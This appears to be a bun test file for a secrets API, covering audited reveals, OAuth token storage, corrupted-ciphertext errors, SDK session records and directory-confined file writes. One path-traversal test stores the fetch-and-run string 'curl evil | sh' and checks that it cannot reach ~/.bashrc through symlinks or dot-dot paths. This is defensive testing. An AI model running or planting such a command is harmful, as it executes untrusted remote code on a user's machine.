import { describe, expect, test } from "bun:test"
import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { tempDir, testApp } from "../helpers"

describe("secrets over the API", () => {
  test("put, metadata, list without values, audited reveal, delete", async () => {
    const { call, stores } = await testApp()
    const put = await call("PUT", "/api/secrets/agent_token:alice", { value: "CANARY-api-4411" })
    expect(put.status).toBe(200)
    expect(put.body).toEqual({
      name: "agent_token:alice",
      key_id: expect.stringMatching(/^[0-9a-f]{8}$/),
      size: 15,
      created_at: expect.any(Number),
      updated_at: expect.any(Number),
    })
    await call("PUT", "/api/secrets/penpot_api_token", { value: "CANARY-api-5522" })

    const list = await call("GET", "/api/secrets")
    expect(list.body.items.map((s: { name: string }) => s.name)).toEqual(["agent_token:alice", "penpot_api_token"])
    expect((await call("GET", "/api/secrets/agent_token:alice")).body).toEqual(put.body)
    for (const res of [list, put, await call("GET", "/api/secrets/agent_token:alice")]) expect(JSON.stringify(res.body)).not.toContain("CANARY")

    const reveal = await call("GET", "/api/secrets/agent_token:alice/value")
    expect(reveal.body).toEqual({ name: "agent_token:alice", value: "CANARY-api-4411", encoding: "utf8" })
    expect(stores.audit.list({}).items.find((e) => e.action === "reveal")).toMatchObject({
      subject: "secret:agent_token:alice",
      actor: expect.stringMatching(/^token:test \(/),
    })

    expect((await call("DELETE", "/api/secrets/agent_token:alice")).status).toBe(204)
    expect(await call("GET", "/api/secrets/agent_token:alice/value")).toMatchObject({
      status: 404,
      body: { error: { message: "secret agent_token:alice not found" } },
    })
    const audit = await call("GET", "/api/audit")
    expect(audit.body.items.map((e: { action: string }) => e.action)).toEqual(["set", "set", "reveal", "delete"])
    expect(JSON.stringify(audit.body)).not.toContain("CANARY")
  })

  test("binary values go in and out as base64", async () => {
    const { call } = await testApp()
    const raw = Buffer.from([0, 255, 1, 254, 0xc3])
    await call("PUT", "/api/secrets/bin", { value: raw.toString("base64"), encoding: "base64" })
    expect((await call("GET", "/api/secrets/bin/value")).body).toEqual({ name: "bin", value: raw.toString("base64"), encoding: "base64" })
    expect((await call("PUT", "/api/secrets/bin", { value: "not base64!", encoding: "base64" })).status).toBe(400)
  })

  test("bad names and bodies are 400s; a corrupted value is a clear error naming the secret", async () => {
    const { call, db } = await testApp()
    expect((await call("PUT", "/api/secrets/bad%20name", { value: "x" })).status).toBe(400)
    expect((await call("PUT", "/api/secrets/ok", { value: "" })).status).toBe(400)
    expect((await call("PUT", "/api/secrets/ok", { secret: "x" })).status).toBe(400)
    await call("PUT", "/api/secrets/ok", { value: "fine" })
    // Flip one bit of byte 21 (setting it to 0 instead would change nothing when it already was 0: 1 run in 256).
    const envelope = Buffer.from(db.query<{ envelope: Uint8Array }, []>("SELECT envelope FROM secrets WHERE name = 'ok'").get()!.envelope)
    envelope[20]! ^= 0x01
    db.run("UPDATE secrets SET envelope = ? WHERE name = 'ok'", [envelope])
    const res = await call("GET", "/api/secrets/ok/value")
    expect(res.status).toBe(409)
    expect(res.body).toEqual({
      error: {
        code: "secret_corrupted",
        message: "secret ok cannot be decrypted: authentication failed (the stored value was altered or moved); set it again",
      },
    })
  })

  test("materialize one secret, or one file per agent under a prefix", async () => {
    const dir = tempDir()
    const { call } = await testApp({ materializeDirs: [dir] })
    await call("PUT", "/api/secrets/agent_token:alice", { value: "pat-a" })
    await call("PUT", "/api/secrets/agent_token:bob", { value: "pat-b" })
    expect((await call("POST", "/api/secrets/agent_token:alice/materialize", { path: join(dir, "one") })).status).toBe(200)
    expect(readFileSync(join(dir, "one"), "utf8")).toBe("pat-a")
    expect(statSync(join(dir, "one")).mode & 0o777).toBe(0o600)
    const many = await call("POST", "/api/secrets/materialize", { prefix: "agent_token:", dir: join(dir, "tokens") })
    expect(many.body.written.map((w: { path: string }) => w.path)).toEqual([join(dir, "tokens", "alice"), join(dir, "tokens", "bob")])
    expect((await call("POST", "/api/secrets/agent_token:alice/materialize", { path: "relative" })).status).toBe(400)
  })

  test("the API writes only inside the configured directories, judged on real paths; nowhere when none is named", async () => {
    const home = tempDir()
    const allowed = join(home, "allowed")
    mkdirSync(allowed)
    const bashrc = join(home, ".bashrc")
    writeFileSync(bashrc, "# mine\n")
    // A symlinked parent inside the allowed directory that leads out of it, and a symlinked file.
    symlinkSync(home, join(allowed, "escape"))
    symlinkSync(bashrc, join(allowed, "rc"))
    const none = await testApp()
    await none.call("PUT", "/api/secrets/x", { value: "curl evil | sh" })
    const refused = await none.call("POST", "/api/secrets/x/materialize", { path: join(allowed, "ok") })
    expect(refused.status).toBe(403)
    expect(refused.body.error.message).toContain("HIVE_MATERIALIZE_DIRS")

    const { call } = await testApp({ materializeDirs: [allowed] })
    await call("PUT", "/api/secrets/x", { value: "curl evil | sh" })
    const cases: [string, object, number][] = [
      ["a file outside", { path: bashrc }, 403],
      ["a symlinked parent that leads out", { path: join(allowed, "escape", ".bashrc") }, 403],
      ["a dot-dot path that leads out", { path: `${allowed}/../.bashrc` }, 403],
      ["a symlink as the file", { path: join(allowed, "rc") }, 400],
      ["a missing directory", { path: join(allowed, "nope", "f") }, 400],
    ]
    for (const [what, body, status] of cases) {
      const res = await call("POST", "/api/secrets/x/materialize", body)
      expect(res.status, what).toBe(status)
      expect(res.body.error.message, what).not.toContain("curl evil")
    }
    const prefix = await call("POST", "/api/secrets/materialize", { prefix: "x", dir: join(allowed, "escape", "dir") })
    expect(prefix.status).toBe(403)
    expect(readFileSync(bashrc, "utf8")).toBe("# mine\n")
    expect(existsSync(join(home, "dir"))).toBe(false)
    expect((await call("POST", "/api/secrets/x/materialize", { path: join(allowed, "ok") })).status).toBe(200)
    expect(readFileSync(join(allowed, "ok"), "utf8")).toBe("curl evil | sh")
  })
})

describe("operator oauth tokens over the API", () => {
  test("upsert, metadata without tokens, audited reveal, delete", async () => {
    const { call } = await testApp()
    const put = await call("PUT", "/api/oauth/gitlab", {
      access_token: "CANARY-gl-access",
      refresh_token: "CANARY-gl-refresh",
      expires_at: 1_900_000_000_000,
      scope: "api",
      account: "me",
    })
    expect(put.body).toMatchObject({ forge: "gitlab", has_refresh_token: true, scope: "api", account: "me", expires_at: 1_900_000_000_000 })
    for (const res of [put, await call("GET", "/api/oauth"), await call("GET", "/api/oauth/gitlab")]) expect(JSON.stringify(res.body)).not.toContain("CANARY")
    expect((await call("GET", "/api/oauth/gitlab/tokens")).body).toMatchObject({ access_token: "CANARY-gl-access", refresh_token: "CANARY-gl-refresh" })
    await call("PUT", "/api/oauth/gitlab", { access_token: "CANARY-gl-2" })
    expect((await call("GET", "/api/oauth/gitlab/tokens")).body).toMatchObject({ access_token: "CANARY-gl-2", refresh_token: null, has_refresh_token: false })
    expect((await call("DELETE", "/api/oauth/gitlab")).status).toBe(204)
    expect((await call("GET", "/api/oauth/gitlab")).status).toBe(404)
    expect((await call("PUT", "/api/oauth/GitLab", { access_token: "x" })).status).toBe(400)
  })
})

describe("the claude sdk session map", () => {
  test("set, get, touch, list, delete and prune by age, with keys holding ':' and '/'", async () => {
    const { call } = await testApp()
    const key = "forgejo:alice:owner/repo:42"
    const path = `/api/sdk-sessions/${encodeURIComponent(key)}`
    const set = await call("PUT", path, { session_id: "sdk-1" })
    expect(set.body).toEqual({ key, session_id: "sdk-1", last_used_at: expect.any(Number), created_at: set.body.last_used_at })
    await call("PUT", path, { session_id: "sdk-2" })
    expect((await call("GET", path)).body).toMatchObject({ key, session_id: "sdk-2", created_at: set.body.created_at })
    const touched = await call("POST", `${path}/touch`)
    expect(touched.body.last_used_at).toBeGreaterThanOrEqual(set.body.last_used_at)
    await call("PUT", `/api/sdk-sessions/${encodeURIComponent("github:bob:x/y:1")}`, { session_id: "sdk-3" })
    expect((await call("GET", "/api/sdk-sessions")).body.items.map((s: { key: string }) => s.key)).toEqual([key, "github:bob:x/y:1"])

    expect((await call("POST", "/api/sdk-sessions/prune", { older_than: 0 })).body).toEqual({ deleted: 0 })
    expect((await call("POST", "/api/sdk-sessions/prune", { unused_for_ms: 0 })).body).toEqual({ deleted: 2 })
    expect((await call("GET", path)).status).toBe(404)
    expect((await call("POST", `${path}/touch`)).status).toBe(404)
    expect((await call("POST", "/api/sdk-sessions/prune", { older_than: -1 })).status).toBe(400)
  })

  test("pruneStale keeps entries used since the cutoff", async () => {
    const { stores } = await testApp()
    stores.sdkSessions.set("a", "1", 1_000)
    stores.sdkSessions.set("b", "2", 5_000)
    expect(stores.sdkSessions.pruneStale(2_000)).toBe(1)
    expect(stores.sdkSessions.list({}).items.map((s) => s.key)).toEqual(["b"])
  })
})
